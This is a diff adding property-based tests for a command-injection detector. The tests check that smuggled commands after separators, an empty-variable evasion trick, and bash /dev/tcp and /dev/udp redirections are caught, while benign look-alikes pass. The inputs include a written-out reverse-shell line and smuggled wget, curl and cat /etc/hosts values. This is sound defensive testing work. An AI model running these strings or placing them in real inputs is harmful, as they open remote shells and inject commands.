@@ -181,3 +181,42 @@ test('property: a separator, any command-shaped word and an option or a path is 
     ),
   );
 });
+
+test('empty variables, sibling programs, subshells, network redirection, batch /i', () => {
+  for (const v of [
+    '|$u wget x',
+    ';$foo cat /etc/hosts',
+    ';rmt-tar',
+    'x;curl-config',
+    'x&&(sh)',
+    '0>$d/tcp/198.51.100.1/4444',
+    'bash -i >& /dev/udp/10.0.0.1/53 0>&1',
+    'if/i a==b x',
+  ])
+    assert.ok(detectCmdi(v) !== null, v);
+  for (const v of ['$usd shirt', 'red;t-shirt', 'x;e-mail', 'a (b) && (c)', '/docs/tcp/port/80', 'rock-n-roll;pop-art'])
+    assert.equal(detectCmdi(v), null, v);
+});
+
+test('property: an unset variable before a command after a separator does not hide it', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(';', '|', '&&', '\n'),
+      fc.stringMatching(/^[a-z_][a-z0-9_]{0,6}$/),
+      fc.constantFrom('wget x', 'curl x', 'cat /etc/hosts', 'id', 'whoami'),
+      (sep, name, cmd) => detectCmdi(`x${sep}$${name} ${cmd}`) !== null,
+    ),
+  );
+});
+
+test('property: bash network redirection to any host and port is found', () => {
+  fc.assert(
+    fc.property(
+      fc.ipV4(),
+      fc.integer({ min: 1, max: 65535 }),
+      fc.constantFrom('/dev', '$d', '${d}'),
+      fc.constantFrom('tcp', 'udp'),
+      (ip, port, dev, proto) => detectCmdi(`sh>${dev}/${proto}/${ip}/${port}`) !== null,
+    ),
+  );
+});
